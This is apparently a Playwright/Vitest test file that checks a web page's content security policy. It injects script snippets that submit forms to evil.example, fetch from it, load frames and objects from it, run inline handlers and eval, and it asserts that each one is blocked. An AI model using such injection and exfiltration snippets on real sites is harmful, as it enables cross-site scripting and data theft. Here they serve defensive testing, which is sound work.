import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { sampleComparison } from '../support/sampleComparison.js';
import { doneComparison } from './fakeComparisonHost.js';
import { describePages } from './pageSuite.js';

/** What a name in a file would try, could it reach the page as HTML; each runs in the page. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'form-action': `
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();`,
  'base-uri': `
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);`,
  'script-src-elem': `
    const script = document.createElement('script');
    script.textContent = 'window.stolen = true';
    document.body.append(script);`,
  'script-src-attr': `
    const image = document.createElement('div');
    image.setAttribute('onclick', 'window.stolen = true');
    document.body.append(image);
    image.click();`,
  'script-src': `try { window.eval('window.stolen = true'); } catch {}`,
  'connect-src': `fetch('https://evil.example/').catch(() => undefined);`,
  'img-src': `new Image().src = 'https://evil.example/x.png';`,
  'frame-src': `
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);`,
  'object-src': `
    const object = document.createElement('object');
    object.data = 'https://evil.example/';
    document.body.append(object);`,
  'worker-src': `try { new Worker(URL.createObjectURL(new Blob(['']))).onerror = () => 0; } catch {}`,
};

/** The comparison page starts workers of its own making: of nothing else. */
const ATTEMPTS_OF_COMPARISON = {
  ...ATTEMPTS,
  'worker-src': `try { new Worker('data:text/javascript,').onerror = () => 0; } catch {}`,
};

describePages('the content security policy of a page', (pages) => {
  const expectStopped = async (page: Page, attempts: Readonly<Record<string, string>>) => {
    const url = page.url();
    for (const [directive, attempt] of Object.entries(attempts)) {
      await page.evaluate((code) => {
        window.violations = [];
        const { nonce } = document.querySelector<HTMLScriptElement>('script[nonce]')!;
        const script = document.createElement('script');
        script.nonce = nonce;
        // Later, since what a debugger evaluates may evaluate more.
        script.textContent = `setTimeout(() => {${code}})`;
        document.body.append(script);
      }, attempt);
      const broken = (name: string) =>
        window.violations.some((violation) => violation.startsWith(`${name} `));
      await page.waitForFunction(broken, directive);
      expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
      expect(page.url()).toBe(url);
    }
    await page.evaluate(() => (window.violations = []));
  };

  it('stops whatever would run, load, or send something else', async () => {
    const { page } = await pages.editor();
    await expectStopped(page, ATTEMPTS);
  });

  it('stops the same in a page that starts workers', async () => {
    const { page } = await pages.comparison(doneComparison(sampleComparison()));
    await expectStopped(page, ATTEMPTS_OF_COMPARISON);
  });
});
